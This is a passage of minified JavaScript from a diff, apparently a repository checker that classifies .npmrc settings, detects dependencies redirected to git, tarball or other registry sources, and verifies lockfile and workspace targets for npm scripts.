+entries(wS).map(([n,s])=>[n,Sa(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(t))return"cargo";const e=t.slice(
+t.lastIndexOf("/")+1);return wh.find(([,n])=>n(e))?.[0]}var bh=Te(756);const _S="version https://git-lfs.github.com/spec\
+/";function ES(t){if(t.startsWith(_S))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}const $e={
+targets:[],problems:[]};function Se(t){return{targets:t.flatMap(e=>e.targets),problems:t.flatMap(e=>e.problems)}}function ue(t,e,n,s){
+return{targets:[],problems:[be(t,e,n,s)]}}function ct({directory:t},e){return t===""?e:`${t}/${e}`}function Bi({via:t},e){
+return t===void 0?e:{...e,via:t}}const _h=64,Eh=2e3;class kS{#e=new Set;#t=new Set;resolve;#s;constructor(e,n){this.resolve=
+e,this.#s=n}async follow(e,n,s,r){if(this.#e.has(e))return r({why:"cycle"});const i=await this.#s?.tickScript();if(i!==void 0)
+return r({why:"time",limit:i});const o=`${e}\0${n}`;if(this.#t.has(o))return $e;if(this.#e.size>=_h)return r({why:"depth",
+limit:_h});if(this.#t.size>=Eh)return r({why:"count",limit:Eh});this.#e.add(e);const a=await s();return this.#e.delete(e),
+this.#t.add(o),a}}function $a(t,e,n){switch(t.kind){case"inside":return t.entry;case"outside":return ue("target-outside",
+n,{path:e,reason:"symlink"});case"missing":return ue("target-missing",n,{path:e});case"loop":return ue("target-not-a-fil\
+e",n,{path:e,reason:"loop"})}}function Ra(t,e,n,s){const r=AS(t,e),i=e.slice(0,Math.max(0,e.length-(xe(n)?.length??0))),
+o=r&&ie.posix.relative(i,r),c=e.split("/").map((u,l,d)=>d.slice(0,l).join("/")).find(u=>t.stat(u)?.kind==="submodule");return ue(
+"target-missing",s,{path:n,...c?{submodule:c}:o&&{near:o}})}function Na(t,e,n){const s=$a(t,e,n);return"problems"in s||lt(
+s.kind)?s:ue("target-not-a-file",n,{path:e,reason:s.kind})}function kh(t,e,n){const s=e.startsWith("/")?void 0:xe(ct(t,e));
+if(s===void 0)return ue("target-outside",n,{path:e,reason:"above"});const r=Ve(t.tree,s);return r.kind==="missing"?Ra(t.
+tree,s,e,n):$a(r,e,n)}function Fa(t,{text:e,span:n}){const s=e.startsWith("/")?void 0:xe(ct(t,e)),r=s===void 0?void 0:Ve(
+t.tree,s);return s===void 0||r?.kind!=="inside"||!lt(r.entry.kind)?$e:La(t,{name:e,path:r.path,wanted:s},n)}function La(t,{
+name:e,path:n,wanted:s},r){const i=t.changed.has(n)||t.changed.has(s);return{targets:[Bi(t,{kind:"file",name:e,path:n})],
+problems:i?[be("target-changed",r,{path:n})]:[]}}async function fi(t,e,n){const s=Ve(t,e);if(!(s.kind==="missing"&&t.stat(
+e)===void 0))return s.kind!=="inside"?{unread:"it is a symbolic link that leads to no file of the repository"}:lt(s.entry.
+kind)?(s.entry.size??0)>n?{unread:"it is too large"}:{text:(await t.read(s.path,n)).toString("utf8"),path:s.path}:{unread:"\
+it is not a regular file"}}async function vS(t,e,n){if(t===e)return!1;const[s,r]=[t,e].map(u=>Ve(u,n));if(s?.kind!=="ins\
+ide"||r?.kind!=="inside")return!0;const[i,o]=[s.entry,r.entry];if(i.oid!==void 0&&i.oid===o.oid)return!1;if(i.size!==o.size||
+!lt(i.kind)||!lt(o.kind))return!0;const[a,c]=await Promise.all([t.read(i.path,i.size),e.read(o.path,o.size)]);return!a.equals(
+c)}async function DS(t,e){const[n=""]=(await t.read(e)).subarray(0,256).toString("latin1").split(`
+`,1);return n}const xS=Yt(t=>Hr(t.files(),({path:e})=>ie.posix.dirname(e))),OS=20;function AS(t,e){const n=e.split("/").
+slice(-OS),s=n.at(-1)??"",r=ie.posix.dirname(e),i=n.slice(1,-1).map((l,d)=>n.slice(d+1).join("/")).find(l=>vh(t.stat(l)));
+if(i!==void 0)return i;const o=Ur(t,s).filter(vh),a=o.filter(({path:l})=>l.endsWith(`/${e}`));if(a.length===1)return a[0]?.
+path;const c=(xS(t).get(r)??[]).filter(({path:l})=>ie.posix.extname(l)===ie.posix.extname(s)).map(({path:l})=>ie.posix.basename(
+l)),u=Gr(s,c);return u!==void 0?ie.posix.join(r,u):o.length===1?o[0]?.path:void 0}function vh(t){return!!t?.tracked&&lt(
+t.kind)&&!vt(t.path,"node_modules")}const SS=2e5,TS=2e3;async function xz(t,e){const{kind:n,size:s=0}=t.stat(e)??{};if(!isRegular(
+n))return;if(s>SS)return`has ${s} bytes`;const r=(await t.read(e)).toString("utf8").split(`
+`),i=r.findIndex(o=>o.length>TS);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const IS=64*1024;async function hs(t){
+const e=await fi(t.tree,ct(t,".npmrc"),IS);if(e===void 0)return{settings:{}};if("unread"in e)return e;const n=ES(e.text);
+return n!==void 0?{unread:n}:{settings:(0,bh.parse)(e.text),file:e.path}}async function Pa(t,e){const n=ct(t,".npmrc"),s=await hs(
+t);if("unread"in s)return ue("npmrc-setting",e,{path:n,keys:[],why:s.unread});const{settings:r,file:i=n}=s,o=!t.base||t.
+changed.has(n)||t.changed.has(i),a=t.base&&await hs({...t,tree:t.base}),c=a&&"settings"in a?a.settings:{},u={changed:[],
+decides:[],stands:[]};for(const[l,d]of Object.entries(r)){const B=ja(l,d),f=o&&JSON.stringify(c[l])!==JSON.stringify(d),
+h=l==="node-options"&&!Sf(String(d));B==="harmless"||B==="honoured"&&!f&&!h||u[f?"changed":B==="other"?"stands":"decides"].
+push(l)}return Se(Object.entries(u).map(([l,d])=>d.length===0?$e:ue("npmrc-setting",e,{path:n,keys:d,why:l},l==="stands"?
+"warning":void 0)))}const $S=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
+ cpu depth
+  description diff-ignore-all-space diff-name-only diff-no-prefix diff-text diff-unified dry-run
+  engine-strict expect-result-count expect-results fetch-retries fetch-retry-factor
+  fetch-retry-maxtimeout fetch-retry-mintimeout fetch-timeout foreground-scripts format-package-lock
+  fund git-tag-version heading include include-staged init-author-email init-author-name
+  init-author-url init-license init-private init-type init-version init.author.email
+  init.author.name init.author.url init.license init.version install-links install-strategy json
+  legacy-bundling legacy-peer-deps libc link lockfile-version loglevel logs-max long maxsockets
+  message min-release-age offline omit optional os package-lock parseable prefer-dedupe
+  prefer-offline prefer-online preid production progress provenance read-only rebuild-bundle save
+  save-bundle save-dev save-exact save-optional save-peer save-prefix save-prod sbom-format sbom-type
+  sign-git-commit sign-git-tag strict-npmrc strict-peer-deps tag tag-version-prefix timing unicode
+  update-notifier workspaces-update
+  auto-install-peers dedupe-peer-dependents enable-pre-post-scripts hoist hoist-pattern
+  ignore-workspace-root-check link-workspace-packages manage-package-manager-versions node-linker
+  prefer-workspace-packages public-hoist-pattern recursive-install resolution-mode
+  save-workspace-protocol shamefully-hoist shared-workspace-lockfile side-effects-cache
+  strict-peer-dependencies use-node-version`.split(/\s+/)),RS=new Set(`browser call editor extension-file git global glo\
+balconfig if-present include-workspace-root
+  init-module init.module location node-gyp node-options package prefix scripts-prepend-node-path
+  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),NS=new Set(["ignor\
+e-scripts","node-options"]);function ja(t,e){const n=typeof e!="object"&&!String(e).includes("${");if(t==="ignore-script\
+s"&&n)return typeof e=="boolean"?"honoured":"decides";if(NS.has(t)&&n)return"honoured";const s=t.toLowerCase().replaceAll(
+"_","-");return RS.has(s)||t.includes("${")?"decides":!$S.has(t)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
+"${")?"other":"harmless"}async function FS(t,e){return Promise.all(Ur(t,".npmrc").map(({path:n})=>LS(t,n,e)))}async function LS(t,e,n){
+const s=ie.posix.dirname(e),r=await hs({tree:t,directory:s==="."?"":s});if("unread"in r)return PS(t,e,r.unread);const{settings:i,
+file:o=e}=r,a=n.has(e)||n.has(o),c=([l,d])=>{const B=ja(l,d);return B==="harmless"||B==="honoured"&&!a},u=Object.entries(
+i);return{path:o,text:(0,bh.stringify)(Object.fromEntries(u.filter(c))),dropped:u.filter(l=>!c(l)).map(([l])=>l)}}function PS(t,e,n){
+const s=Ve(t,e);return s.kind==="inside"&&lt(s.entry.kind)?{path:s.path,text:"",dropped:[n]}:{path:e,dropped:[n]}}const jS=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
+async function MS(t,e){return(await FS(t,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!jS.test(o));return i.length>
+0?[`${s}: ${i.join(", ")}`]:[]})}function Dh(t){try{return t()}catch{return}}const xh=200;function GS(t){if(new RegExp(`\
+^[ \\t?-]{${xh}}`,"m").test(t))return!0;let e=0;for(const n of t.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+(/[[{]/.test(n)?
+1:-1)),e>xh)return!0;return!1}const HS=["dependencies","devDependencies","optionalDependencies"],Oh=64*1024*1024,Qt=Symbol(
+"invalid"),ps=zs(async(t,e)=>{if(Ve(t,e).kind==="missing")return;const n=await fi(t,e,Oh);if(n===void 0||"unread"in n||GS(
+n.text))return Qt;const s=Dh(()=>JSON.parse(n.text.replace(/^\uFEFF/,"")));return typeof s=="object"&&s!==null?s:Qt}),Ws=zs(
+async(t,e)=>{const n=e===""?"package.json":`${e}/package.json`,s=await ps(t,n);return s===void 0||s===Qt?s:zS(n,s)});async function Ut(t,e){
+const n=await Ws(t,e);return n===Qt?void 0:n}function zS(t,e){const n=typeof e.name=="string"?e.name:"";return{path:t,name:n,
+scripts:Ma(e.scripts),binaries:new Map(Object.entries(hi(e.bin,n)??{})),dependencies:new Set(HS.flatMap(s=>[...Ma(e[s]).
+keys()])),workspaces:US(e.workspaces)}}function hi(t,e){if(typeof t=="string")return{[e.replace(/^@[^/]*\//,"")]:t};const n=Ma(
+t);return n.size===0?void 0:Object.fromEntries(n)}function Ma(t){return new Map(Object.entries(gt(t)).flatMap(([e,n])=>typeof n==
+"string"?[[e,n]]:[]))}function US(t){const e=Array.isArray(t)?t:gt(t).packages;return Array.isArray(e)?e.filter(n=>typeof n==
+"string"):[]}const Jt=Yt(async t=>{const e=di.filter(i=>t.stat(i)!==void 0),n=Ia.find(i=>e.includes(i)),s=n===void 0?void 0:
+await JS(t,n),r=e.filter(i=>!Ia.some(o=>o===i));return s==="unread"?{unread:[n??"",...r]}:n===void 0?{unread:r}:{npm:s??
+{path:n,packages:new Map,all:[]},unread:r}}),JS=zs(async(t,e)=>{const n=await fi(t,e,Oh),s=n&&"text"in n?n.text.replace(
+/^\uFEFF/,""):"",r=gt(Dh(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===1?"unread":void 0;const i=new Map,
+o=[];for(const[a,c]of Object.entries(gt(r.packages))){if(a==="")continue;const[,u,l]=/^(.*?)node_modules\/((?:@[^/]+\/)?[^/]+)$/s.
+exec(a)??[],d=ZS(l??a,gt(c));u===""&&l!==void 0&&i.set(l,d),o.push(d)}return{path:e,packages:i,all:o}});function ZS(t,e){
+const n=Xt(e,"name")||t,s=Xt(e,"version"),r=Xt(e,"resolved"),i=Xt(e,"integrity"),o=hi(e.bin,n),a=e.link===!0?{kind:"file",
+at:r.replace(/^file:/,"")}:Ah(r,n,s);return{name:n,version:s,source:a,...i&&{integrity:i},...o&&{bin:o}}}const KS={kind:"\
+registry"},qS=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,WS=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
+VS=/^(?:file|link|portal|workspace):(.*)$/is;function Ah(t,e,n){const[,s]=VS.exec(t)??[];return s!==void 0?{kind:"file",
+at:s}:qS.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:/^https?:/i.test(t)?YS(t,e,n):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
+t)||/\.t(?:ar\.)?gz$/i.test(t)?{kind:"file",at:t}:WS.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:KS}function YS(t,e,n){
+const s={kind:"tarball",at:t.replace(/#.*$/s,"")};if(!URL.canParse(t))return s;const{host:r,pathname:i}=new URL(t),o=XS(
+i),[,a]=/^\/([^/]+\/[^/]+)\/tar\.gz\//.exec(o)??[];if(r==="codeload.github.com"&&a!==void 0)return{kind:"git",at:`https:\
+//github.com/${a}`};const c=e.replace(/^@[^/]*\//,"");return o.endsWith(`/${e}/-/${c}-${n}.tgz`)||o.endsWith(`/${e}/-/${e}\
+-${n}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${n}/`)?{kind:"registry",at:r}:s}function XS(t){try{
+return decodeURIComponent(t)}catch{return t}}function QS(t){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(t)??[];
+return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}async function eT(t,e,n,s){if(t===e)return[];const[{npm:r},{npm:i}]=await Promise.
+all([Jt(t),Jt(e)]),o=i?.packages.get(n),a={name:n,tree:t,base:e,before:[...o?[o]:[],...await $h(e,n)],hosts:await uT(e),
+configured:await lT(t,n)},c=await iT(a),u=r?.packages.get(n),d=u?tT(u,a):r?void 0:Ga({name:n,version:"",source:{kind:"re\
+gistry"}},a);return d&&c.push({name:n,path:r?.path??".npmrc",...d}),c.map(B=>be("dependency-redirected",s,B))}function tT(t,e){
+const{tree:n,base:s}=e,r=e.before.find(o=>Ih(o,t));return r?.version===t.version&&rT(r,t)||sT(t,n,s)?{how:"integrity",to:t.
+integrity??"nothing"}:r?Ga(t,e):Sh(t,e)}function Sh(t,e){const{source:n}=t;if(n.kind==="git"||n.kind==="tarball")return{
+how:n.kind,to:n.at};if(n.kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return nT(t,e.tree)&&!s?void 0:
+{how:"file",to:n.at}}return t.name!==e.name?{how:"alias",to:t.name}:Ga(t,e)}function Ga({source:t},{hosts:e,configured:n}){
+if(t.kind!=="registry")return;const s=cT(t,n);return e.has(s)?void 0:{how:"host",to:s}}function Th({source:t}){if(t.kind===
+"file")return xe(t.at.replace(/#.*$|::.*$/s,""))||void 0}function nT(t,e){const n=Th(t),s=n===void 0?void 0:Ve(e,n);return s?.
+kind==="inside"&&s.entry.kind==="directory"}function sT(t,e,n){const s=Th(t);if(s===void 0)return!1;const[r,i]=[e,n].map(
+a=>Ve(a,s));return!(r?.kind==="inside"&&lt(r.entry.kind))||i?.kind!=="inside"?!1:r.entry.oid!==i.entry.oid||r.entry.size!==
+i.entry.size}function Ih(t,e){return t.name===e.name&&t.source.kind===e.source.kind&&Rh(t)===Rh(e)}function rT({integrity:t,
+source:e},{integrity:n}){if(t===void 0||e.kind==="file"&&n===void 0)return!1;if(n===void 0)return!0;const s=o=>o.split("\
+-",1)[0],r=n.split(/\s+/),i=t.split(/\s+/).filter(o=>r.some(a=>s(a)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}
+async function iT(t){const{name:e,tree:n,before:s}=t;return(await $h(n,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.
+name===e||s.some(a=>Ih(a,r)))return[];const o=Sh(r,t);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function $h(t,e){
+const n=gt(await ps(t,"package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(u=>Xt(gt(n[u]),e)),
+{overrides:r,resolutions:i,pnpm:o}=n,a=[r,i,gt(o).overrides].flatMap(u=>Object.entries(gt(u)).flatMap(([l,d])=>aT(l,e)?[
+typeof d=="string"?d:Xt(gt(d),".")]:[]));return[...new Set([...s,...a])].filter(u=>u!==""&&!u.startsWith("workspace:")).
+map(u=>oT(u,e))}function oT(t,e){const n=QS(t);return n!==void 0&&n!==e?{name:n,version:"",source:{kind:"registry"}}:{name:e,
+version:"",source:Ah(t,e,"")}}function aT(t,e){const n=t.split(/[>]|\*\*\//).at(-1)??"";return n===e||n.startsWith(`${e}\
+@`)||n.endsWith(`/${e}`)}function Rh({source:{kind:t,at:e=""},version:n}){return t==="tarball"&&n!==""?e.replaceAll(n,"*"):
+t==="registry"&&pi.includes(e)?"":e}const Nh="registry.npmjs.org",pi=[Nh,"registry.yarnpkg.com"];function cT({at:t},e){return(t===
+void 0||pi.includes(t)?e:void 0)??t??Nh}const uT=Yt(async t=>{const e=await Fh(t),n=Object.entries(e).filter(([i])=>i===
+"registry"||i.endsWith(":registry")).map(([,i])=>Lh(String(i))),s=((await Jt(t)).npm?.all??[]).flatMap(({source:i})=>i.kind===
+"registry"&&i.at?[i.at]:[]),r=e.registry===void 0||s.some(i=>pi.includes(i));return new Set([...n,...s,...r?pi:[]])});async function lT(t,e){
+const n=await Fh(t),[s]=e.startsWith("@")?e.split("/"):[],r=s&&n[`${s}:registry`]||n.registry;return r===void 0?void 0:Lh(
+String(r))}async function Fh(t){const e=await hs({tree:t,directory:""});return"settings"in e?e.settings:{}}function Lh(t){
+return URL.canParse(t)?new URL(t).host:t}const dT=new Set(["--env-file","--env-file-if-exists","--prefix"]);function Ph(t,e){
+const{passthrough:n}=t,s=[],r=(o,a)=>{const c=ln(o,a,e);c!==void 0&&s.push(c)};for(const o of[t,...ui(t)]){for(const{name:c,
+value:u,span:l}of o.flags)u!==void 0&&(dT.has(c)&&r(u,l),c==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.test(u)&&r(u,l));
+for(const{as:c,path:u,span:l}of o.subcommand==="exec"&&o.tool?.files||[]){const d=c==="tests"?Ha(u,l,e):void 0;d!==void 0&&
+s.push(d)}if(o.program!=="node"&&o.starts!=="file")continue;const a=o.program==="node"&&ri(o)?Ha:ln;for(const{text:c,span:u}of o.
+operands){const l=c===""||c==="-"?void 0:a(c,u,e);l!==void 0&&s.push(l)}}const i=n.find(({text:o})=>BT.test(o));return i!==
+void 0&&s.push(be("absolute-path",i.span,{path:i.text})),s}const BT=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
+function Ha(t,e,n){if(!za(t))return ln(t,e,n);const s=Vs(t);if(s===void 0)return be("glob-unclear",e,{pattern:t,reason:"\
+too_many"});for(const r of[t,...s]){const i=ln(r,e,n);if(i!==void 0)return{...i,args:{...i.args,path:t}}}}function ln(t,e,n){
+if(/^[A-Za-z][A-Za-z0-9+.-]+:/.test(t)&&/^(?:data|node|file|[a-z]+:\/)/i.test(t))return be("target-outside",e,{path:t,reason:"\
+address"});const s=/^(?:[\\/]|[A-Za-z]:)/.test(t),r=s?void 0:xe(n===""?t:`${n}/${t}`);if(r===void 0)return be("target-ou\
+tside",e,{path:t,reason:s?"absolute":"above"});if(vt(r,".git",{ignoreCase:!0}))return be("target-outside",e,{path:t,reason:"\
+git"})}function jh(t){return t.length>200||t.split("**").length>2?!1:t==="."?!0:t.split("/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.
+test(e))}function mi(t,e,n={}){return gi(t.split("/"),e.split("/"),n)}function gi(t,e,n){const[s,...r]=t,[i,...o]=e;return s===
+void 0?n.partial||e.every(a=>a==="**"):i===void 0?!1:i!=="**"?Mh(s,i,n)&&gi(r,o,n):gi(t,o,n)?!0:Mh(s,"*",n)&&gi(r,e,n)}function Mh(t,e,{
+dot:n=!1}){return t.startsWith(".")&&!e.startsWith(".")&&!n?!1:Ex(t,e)}function za(t){return/[*?[{]/.test(t)}function fT(t){
+return t.replace(/[^/]*[*?[{].*$/s,"")}const hT=200,pT=1e3;function Vs(t){if(t.length>pT)return;let e=[t.replace(/\[(.)(?:-\1)?\]/gs,
+"$1")];const n=[];for(;e.length>0;){const s=[];for(const r of e){const i=/\{([^{},]*(?:,[^{},]*)+)\}/.exec(r);if(i===null)
+n.push(r);else{const{0:o,1:a="",index:c}=i,[u,l]=[r.slice(0,c),r.slice(c+o.length)];s.push(...a.split(",").map(d=>`${u}${d}${l}`))}}
+if(s.length+n.length>hT)return;e=s}return n}const Gh=zs(async(t,e)=>{const n=(await Ut(t,e))?.workspaces??[],s=n.map(l=>Vs(
+l)?.map(d=>d.replace(/^\.?\/+/,"").replace(/\/$/,""))),r=l=>l?.every(jh)===!0,i=s.findIndex(l=>!r(l));if(i>=0)return{unclear:n[i]??
+""};const o=(l,d)=>B=>B?.some(f=>mi(l,f,d))===!0,a=[];for(const{path:l,kind:d}of s.length===0?[]:t.files()){const B=Hh(e,
+l);if(B===void 0||(ie.posix.basename(l)==="package.json"&&a.push(ie.posix.dirname(B)),d!=="symlink"||!s.some(o(B,{partial:!0}))))
+continue;const f=Ve(t,l);if(f.kind==="outside"||f.kind==="inside"&&f.entry.kind==="directory")return{unclear:l}}const c=a.
+filter(l=>s.some(o(l))&&!l.split("/").includes("node_modules")).sort((l,d)=>l.localeCompare(d,"en")),u=s.flatMap(l=>c.filter(
+d=>o(d,{partial:!0})(l)));return mT(t,e,[...new Set(u)])});async function mT(t,e,n){const s=[],r=new Set;for(const i of n){
+const o=ie.posix.join(e,i).replace(/^\.$/,""),a=await Ws(t,o);if(a===void 0)continue;if(a===Qt)return{broken:`${o}/packa\
+ge.json`};const c=a.name||gT(o);if(r.has(c))return{broken:a.path};r.add(c),s.push({directory:o,name:c})}return s}function gT(t){
+const e=ie.posix.basename(ie.posix.dirname(t)),n=ie.posix.basename(t);return e.startsWith("@")?`${e}/${n}`:n}function Hh(t,e){
+return t===""?e:e.startsWith(`${t}/`)?e.slice(t.length+1):void 0}function CT(t,e,{directory:n,project:s}){const r=Hh(s,`${n}\
+/`)!==void 0,i=ie.posix.resolve("/",r?n:s,e),o=u=>ie.posix.join("/",u.directory),a=u=>ie.posix.dirname(o(u))===i;if(!(!(n===
+s&&!/^\.\/|\/\.[^/]*$/.test(e))&&t.some(a)))return t.filter(u=>u.name===e||o(u)===i||a(u))}const zh={script:"",passes:!1};
+async function yT(t,e,n){const{workspace:s,workspaces:r,includeRoot:i}=t,o=await wT(t,e,n);if("problems"in o)return o;const{
+directory:a,implied:c}=o;if(r===!1&&s.length>0)return ue("flag-value",n,{program:"npm",flag:"--no-workspaces",fault:"npm\
+ refuses it beside `--workspace`"});const u={project:a,directories:[a],selected:!1,missing:[]};if(r!==!0&&s.length===0&&
+c===void 0)return u;const l=await Ut(e.tree,a);if(l===void 0)return u;const d=await Uh(a,e,n);if("problems"in d)return d;
+const B=new Map;i&&B.set(l.name,a);const f=[],h=s.length===0;for(const m of d)h&&(c===void 0||m.directory===c)&&B.set(m.
+name,m.directory);for(const m of s){const g={directory:e.directory,project:a},C=CT(d,m,g);if(C===void 0)return ue("targe\
+t-outside",n,{path:m,reason:"workspace"});C.length===0&&f.push(be("npm-script-missing",n,{...zh,workspace:m}));for(const b of C)
+B.set(b.name,b.directory)}return B.size===0?f.length>0?{targets:[],problems:f}:ue("npm-script-missing",n,{...zh,workspace:""}):
+{project:a,directories:[...B.values()],selected:!0,missing:f}}async function wT({prefix:t,workspaces:e},n,s){if(t!==void 0)
+return bT(t,n,s);const{tree:r,directory:i}=n,o=Ys(i),a=o.find(c=>Jh(r,c)||_T(r,c));if(a===void 0||!Jh(r,a))return ue("pa\
+ckage-json-missing",s,{directory:i});if(e===!1)return{directory:a};for(const c of o.slice(o.indexOf(a)+1)){const u=await Uh(
+c,n,s);if("problems"in u)return u;if(u.some(l=>l.directory===a))return{directory:c,implied:a}}return{directory:a}}async function Uh(t,{
+tree:e},n){const s=await Gh(e,t);return"unclear"in s?ue("target-outside",n,{path:s.unclear,reason:"workspace"}):"broken"in
+s?ue("package-json-invalid",n,{path:s.broken}):s}function bT(t,e,n){if(xe(ct(e,t))===void 0)return $e;const s=$a(Ve(e.tree,
+ct(e,t)),t,n);return"problems"in s?s:{directory:s.path}}function Ys(t){const e=t.split("/"),n=e.map((s,r)=>e.slice(0,e.length-
+r).join("/"));return t===""?n:[...n,""]}function Jh(t,e){return Ve(t,ie.posix.join(e,"package.json")).kind!=="missing"}function _T(t,e){
+return Ve(t,ie.posix.join(e,"node_modules")).kind==="inside"}const ET=new Set(["--usage","--version","--versions"]);function Ua({
+flags:t}){const e=t.findLast(({name:r})=>r==="--prefix")?.value,n=Ci(t,"--workspaces"),s=Ci(t,"--ignore-scripts");return{
+informs:t.some(({name:r})=>ET.has(r)),...e===void 0?{}:{prefix:e},...n===void 0?{}:{workspaces:n},workspace:t.flatMap(({
+name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:Ci(t,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
+ifPresent:Ci(t,"--if-present")===!0}}function Ci(t,e){const n=t.findLast(s=>s.name===e);return n&&n.negated!==!0}function ms(t){
+return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.exec(t)?.[1]}async function Xs(t,e,n){const{tree:s,base:r=s}=qa(t),{
+name:i,path:o}=e,a=await kT(s,r,i),c=a===void 0?await xT(s,e):void 0,u=l=>be("dependency-unverified",n,{name:i,path:o,...l});
+return[...a===void 0?[]:[u({fault:a})],...c===void 0?[]:[u({fault:"stale",differs:c})],...await Ja(t,i,n)]}async function Ja(t,e,n){
+const{tree:s,base:r=s}=qa(t);return[...(await vT(s,r)).map(o=>be("dependency-not-compared",n,{name:e,path:o})),...await eT(
+s,r,e,n)]}function Za(t){return Dn(t,"dependency-unverified")?t.args.fault!=="stale":Dn(t,"target-missing")&&t.args.untracked===
+!0}async function kT(t,e,n){const[s,r]=await Promise.all([Jt(t),Jt(e)]),i=({npm:u})=>u?.packages.has(n)===!0,o=u=>i(u)||
+u.unread.length>0;return i(r)&&!i(s)&&t.stat(r.npm?.path??"")||o(r)&&!o(s)?"removed":(await Ut(t,""))?.dependencies.has(
+n)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function vT(t,e){const[{npm:n,unread:s},r]=await Promise.
+all([Jt(t),Jt(e)]);if(!n&&s.length===0&&!r.npm&&r.unread.length===0)return[""];const i=await Promise.all(s.map(o=>vS(t,e,
+o)));return s.filter((o,a)=>i[a])}async function DT(t,e,n){const{npm:s,unread:r}=await Jt(t),i=s?.packages,o=r.length>0||
+i===void 0||i.has(e);return n.has(e)&&o?e:[...n].find(a=>Object.hasOwn(i?.get(a)?.bin??{},e))}async function xT(t,{name:e,
+binary:n}){const s=`node_modules/${e}`,r=(await Jt(t)).npm?.packages.get(e);if(r===void 0||t.stat(s)===void 0)return;const i=await ps(
+t,`${s}/package.json`),o=gt(i),a=Xt(o,"name")||e,c=Xt(o,"version"),u=(m,g,C)=>`the installed package has the ${m} \`${g||
+"nothing"}\`, but the lockfile has \`${C}\``;if(i!==void 0&&a!==r.name)return u("name",a,r.name);if(i!==void 0&&!["",c].
+includes(r.version))return u("version",c,r.version);const l=r.bin??(o.bin===void 0?void 0:hi(o.bin,a)??{});if(n===void 0||
+l===void 0)return;const{name:d,file:B}=n,f=Object.entries(l).flatMap(([m,g])=>d===void 0||d===m?[ie.posix.normalize(g)]:
+[]),h=d===void 0?"binary":`binary ${d}`;return f.includes(B)?void 0:u(h,B,f[0]??"nothing")}function Ka({tree:t,base:e=t,
+directory:n}){const s=r=>i=>di.some(o=>i.stat(ie.posix.join(r,o))!==void 0);return Ys(n).find(r=>[t,e].some(s(r)))??""}function qa(t,e=Ka(
+t)){if(e==="")return t;const{tree:n,base:s,directory:r,changed:i}=t,o=`${e}/`;return{...t,tree:jn(n,e),...s&&{base:jn(s,
+e)},directory:r.slice(o.length),changed:new Set([...i].flatMap(a=>a.startsWith(o)?a.slice(o.length):[]))}}async function Zh(t,e){
+const n=Ka(t),{targets:s,problems:r}=await e(qa(t,n));return{targets:s.map(i=>i.path===void 0?i:{...i,path:ie.posix.join(
+n,i.path)}),problems:r}}const OT=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function Kh(t,e,n){const{tree:s}=t,
+r=ln(e,n,t.directory);if(r!==void 0)return{targets:[],problems:[r]};if(e.includes("\\"))return ue("target-not-a-file",n,
+{path:e,reason:"backslash"});const i=xe(ct(t,e))??"",o=Ka(t);if(o!==""&&vt(i,ie.posix.join(o,"node_modules")))return Zh(
+t,u=>Kh(u,e,n));const a=Yh(s,Va(i));return a===void 0?ST(t,e,i,n):a.kind!=="inside"||a.entry.kind!=="directory"?qh(t,{path:e,
+wanted:i,found:a},n):await Xh(t,{path:e,wanted:i},n,u=>qh(t,u,n))??ue("target-not-a-file",n,{path:e,reason:"directory"})}
+async function Wa(t,{path:e,wanted:n,found:s},r){const i=Na(s,e,r);if("problems"in i)return i;const o=await AT(t,i,e,r);
+if(o.some(Za))return{targets:[],problems:o};const a=La(t,{name:e,path:i.path,wanted:n},r);return{...a,problems:[...o,...a.
+problems]}}async function qh(t,e,n){const{path:s,wanted:r}=e,i=Na(e.found,s,n);if("problems"in i)return i;const o=/\.([^./]*)$/.
+exec(i.path.replace(/.*\//,""))?.[1]??"";if(!OT.has(o))return ue("target-extension",n,{program:"node",path:s,extension:o});
+const a=await Wa(t,e,n);if(a.targets.length===0)return a;const c=ms(i.path);return c&&!vt(r,"node_modules")&&!r.includes(
+`node_modules/${c}`)?ue("dependency-unverified",n,{name:c,path:s,fault:"linked"}):i.tracked&&await IT(t.tree,i)?Se([a,ue(
+"target-writes",n,{path:i.path})]):a}async function AT(t,{path:e,tracked:n,built:s},r,i){const o=ms(e);return o===void 0?
+(n||s)&&!vt(e,"node_modules")?[]:[be("target-missing",i,{path:r,untracked:!0})]:n?[be("dependency-unverified",i,{name:o,
+path:r,fault:"committed"})]:await Xs(t,{name:o,path:r},i)}async function ST(t,e,n,s){const r=ms(n);if(r===void 0&&t.tree.
